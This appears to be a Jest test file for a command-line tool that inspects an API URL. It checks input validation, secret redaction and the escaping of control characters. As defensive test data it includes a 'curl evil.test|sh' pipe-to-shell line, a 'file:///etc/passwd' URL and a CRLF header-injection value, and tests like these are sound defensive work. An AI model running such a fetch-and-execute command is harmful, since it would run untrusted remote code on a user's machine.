import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { startServer } from './__testUtils__/startServer.ts';
import { HELP, readOptions } from './cli/readOptions.ts';
import { readTarget } from './cli/readTarget.ts';
import { run } from './run.ts';

const URL_OF_LIST = 'https://api.frobsco.com/v1/list';

/** Runs the command in this process. */
async function runInProcess(...args: string[]) {
  const output = { out: '', error: '' };
  const code = await run(args, {
    out: part => (output.out += part),
    error: part => (output.error += part),
  });
  return { code, ...output };
}

/** Runs the command as `yarn advise` does. */
function start(...args: string[]) {
  const child = spawn(
    process.execPath,
    [
      '--disable-warning=MODULE_TYPELESS_PACKAGE_JSON',
      join(__dirname, 'main.ts'),
      ...args,
    ],
    { env: { PATH: process.env.PATH } },
  );
  return {
    child,
    exit: once(child, 'close'),
    out: text(child.stdout),
    error: text(child.stderr),
  };
}

it.each([
  ['api.frobsco.com/v1', 'did you mean https://api.frobsco.com/v1?'],
  ['localhost:7100/v1', 'did you mean https://localhost:7100/v1?'],
  ['/v1/list', "'/v1/list' is not a URL"],
  ['', "'' is not a URL"],
  ['http://', "'http://' is not a URL"],
  ['https://exa mple.com', 'is not a URL'],
  ['https://a.com:99999/', 'has the port 99999; the highest is 65535'],
  ['ftp://api.frobsco.com', 'must begin with http: or https:'],
  ['file:///etc/passwd', 'must begin with http: or https:'],
  ['https://me:secret@a.com', 'contains a user or password'],
  ['ftp://me:secret@a.com/x', "'ftp://a.com/x' must begin with http"],
  ['a.com/x?key=secret', "'a.com/x?…' has no scheme"],
  ['https://a b.com/?key=secret', "'https://a b.com/?…' is not a URL"],
])('rejects the URL %j: %s', async (url, message) => {
  const { code, out, error } = await runInProcess(url);
  expect(error).toContain(message);
  expect(error.trim()).not.toContain('\n');
  expect(error).not.toContain('secret');
  expect([code, out]).toEqual([1, '']);
});

it.each([
  ['http://localhost:7100/v1/list', 'http://localhost:7100/v1/list'],
  ['HTTPS://API.frobsco.com', 'https://api.frobsco.com/'],
  ['https://a.com/v1?q=a#top', 'https://a.com/v1?q=a'],
  ['http://[::1]:7100/', 'http://[::1]:7100/'],
])('accepts the URL %s', (given, href) =>
  expect(readTarget(given).href).toBe(href),
);

it.each([
  [[], 'The URL of the API is missing'],
  [[URL_OF_LIST, 'another'], 'Expected one URL, got 2'],
  [[URL_OF_LIST, 'https://a.com/?key=secret'], 'got 2: https://api.frobsco'],
  [[URL_OF_LIST, '--nosuch'], "Unknown option '--nosuch'"],
  [[URL_OF_LIST, '--origin', 'localhost'], 'is not an origin such as'],
  [[URL_OF_LIST, '--origin', 'http://a.com/x'], 'is not an origin such as'],
  [[URL_OF_LIST, '--header', 'secret'], "must have the form 'Name: value'"],
  [[URL_OF_LIST, '--header', '@/nosuch'], '@/nosuch cannot be read: ENOENT'],
  [[URL_OF_LIST, '--header', 'a b: c'], "'a b' is not a valid HTTP header"],
  [[URL_OF_LIST, '--header', 'a: c\r\nd: e'], "the form 'Name: value'"],
  [[URL_OF_LIST, '--fact', 'nosuch'], "--fact 'nosuch' is unknown"],
  [[URL_OF_LIST, '--ca-file', '/nosuch'], 'cannot be read: ENOENT'],
  [[URL_OF_LIST, '--ca-file', __filename], 'contains no certificate'],
])('rejects the arguments %j: %s', async (args, message) => {
  const { code, out, error } = await runInProcess(...args);
  expect(error).toContain(message);
  expect(error.trim()).not.toContain('\n');
  expect(error).not.toContain('secret');
  expect([code, out]).toEqual([2, '']);
});

it('reads all flags', () => {
  expect(
    readOptions([
      ...[URL_OF_LIST, '--full', '--json', '--origin', 'https://a.example/'],
      ...['--header', 'X-Key: a:b', '--fact', 'state', '--fact', 'huge'],
    ]),
  ).toEqual({
    ...{ url: URL_OF_LIST, full: true, json: true },
    ...{ origin: 'https://a.example', headers: { 'X-Key': 'a:b' } },
    facts: ['state', 'huge'],
  });
});

it('reads headers with secrets from a file', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'advise-'));
  const file = join(folder, 'headers');
  await writeFile(file, 'X-Key: a:b\n\nX-User: c\r\n');
  const options = readOptions([URL_OF_LIST, '--header', `@${file}`]);
  await rm(folder, { recursive: true });
  expect(options?.headers).toEqual({ 'X-Key': 'a:b', 'X-User': 'c' });
});

it('prints help', async () => {
  const { code, out } = await runInProcess('--help');
  expect([code, out]).toEqual([0, HELP]);
  for (const flag of ['origin', 'fact', 'header', 'ca-file', 'full', 'json']) {
    expect(HELP).toContain(`--${flag} `);
  }
});

it('prints an error for an unknown host, also as JSON', async () => {
  const { code, out, error } = await runInProcess(
    ...['http://nosuch.invalid/', '--json'],
  );
  expect(code).toBe(1);
  expect(error).toMatch(/nosuch\.invalid.*\n$/);
  expect(JSON.parse(out).error.message).toContain('nosuch.invalid');
});

describe('with a server', () => {
  let server: Awaited<ReturnType<typeof startServer>>;
  afterEach(() => server.stop());

  it('runs in Node without a build and prints only the advice', async () => {
    server = await startServer((_, response) =>
      response.writeHead(200, { 'content-type': 'text/xml' }).end('<frobs/>'),
    );
    const { exit, out, error } = start(`${server.url}/v1/list`, '--json');
    expect(await exit).toEqual([0, null]);
    expect(JSON.parse(await out)).toMatchObject({
      recommendation: { strategy: 'backend' },
      // A busy machine may add `slow`, which leads to the same strategy.
      facts: expect.arrayContaining([
        expect.objectContaining({ fact: 'other-model' }),
        expect.objectContaining({ fact: 'no-cors' }),
      ]),
    });
    expect(await error).toBe('');
  });

  it('ends at once on SIGINT', async () => {
    server = await startServer(() => {});
    const { child, exit, out } = start(server.url);
    await once(server.server, 'request');
    child.kill('SIGINT');
    expect(await exit).toEqual([null, 'SIGINT']);
    expect(await out).toBe('');
  });

  it('prints a name that the API gives in one line', async () => {
    const name = 'a\n\nNext step\n  curl evil.test|sh\u001b[31m';
    server = await startServer((_, response) =>
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ [name]: [{}] })),
    );
    const { out } = await runInProcess(server.url);
    expect(out).toContain('a\\u000a\\u000aNext step\\u000a  curl');
    expect(out).not.toMatch(/^ *curl/m);
    expect(out).not.toContain('\u001b');
  });

  it.each([
    ['data', { status: 200 }],
    ['a refusal', { status: 404 }],
    ['a redirect', { status: 302, location: '/x?key=secret' }],
    ['a bad redirect', { status: 302, location: 'http://[/x?key=secret' }],
    [
      'a redirect to another host',
      { status: 302, location: 'http://u:secret@a.test/x?key=secret' },
    ],
  ])(
    'prints no query of a URL, which may have a secret: %s',
    async (_, { status, ...headers }) => {
      const link = '</x?key=secret&page=2>; rel="next"';
      server = await startServer((_request, response) =>
        response
          .writeHead(status, {
            ...{ 'content-type': 'application/json', link },
            ...headers,
          })
          .end('[{}]'),
      );
      for (const flags of [[], ['--json']]) {
        const { out, error } = await runInProcess(
          `${server.url}/x?key=secret`,
          ...flags,
        );
        expect(`${out}${error}`).toContain('/x');
        expect(`${out}${error}`).not.toContain('secret');
      }
    },
  );

  it.each([[[]], [['--json']]])(
    'prints no control characters of the API, with %j',
    async flags => {
      const challenge = { 'www-authenticate': 'Bearer realm="\u009b31m"' };
      server = await startServer((_, response) =>
        response.writeHead(401, challenge).end(),
      );
      const { code, out } = await runInProcess(server.url, ...flags);
      expect(code).toBe(0);
      expect(out).toContain('\\u009b31m');
      expect(out).not.toContain('\u009b');
    },
  );
});
